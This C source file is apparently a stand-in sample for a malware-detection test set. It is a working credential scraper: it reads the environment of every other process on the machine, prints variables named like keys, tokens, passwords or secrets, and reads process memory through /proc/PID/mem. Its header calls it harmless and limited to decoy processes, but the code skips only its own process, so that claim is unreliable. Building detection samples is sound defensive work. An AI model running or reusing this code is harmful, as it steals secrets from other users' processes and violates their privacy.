/* Wild-set stand-in: credential theft from other processes (harmless: reads only the
 * sample's own decoy processes, prints to stdout). Walks /proc, reads every other process's
 * environ for *KEY*, *TOKEN*, *PASS*, *SECRET* variables, and tries to read the memory of the
 * first writable-heap mapping of each through /proc/PID/mem, as memory scrapers do. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int interesting(const char *var) {
    const char *keys[] = {"KEY", "TOKEN", "PASS", "SECRET"};
    for (unsigned i = 0; i < sizeof keys / sizeof *keys; i++)
        if (strstr(var, keys[i])) return 1;
    return 0;
}

static void scrape(const char *pid) {
    char path[64], buf[8192];
    snprintf(path, sizeof path, "/proc/%s/environ", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        for (ssize_t at = 0; at < n; at += (ssize_t)strlen(buf + at) + 1) {
            buf[n] = 0;
            if (interesting(buf + at)) printf("%s: %s\n", pid, buf + at);
        }
    }
    snprintf(path, sizeof path, "/proc/%s/maps", pid);
    FILE *maps = fopen(path, "r");
    if (!maps) return;
    unsigned long start = 0, end = 0;
    char line[512];
    while (fgets(line, sizeof line, maps))
        if (strstr(line, "[heap]") || strstr(line, "rw-p")) {
            sscanf(line, "%lx-%lx", &start, &end);
            break;
        }
    fclose(maps);
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    fd = open(path, O_RDONLY);
    if (fd >= 0 && start) {
        ssize_t n = pread(fd, buf, sizeof buf, (off_t)start);
        printf("%s: read %zd bytes of memory\n", pid, n);
    }
    if (fd >= 0) close(fd);
}

int main(void) {
    char self[16];
    snprintf(self, sizeof self, "%d", getpid());
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc)))
        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && strcmp(entry->d_name, self))
            scrape(entry->d_name);
    if (proc) closedir(proc);
    return 0;
}
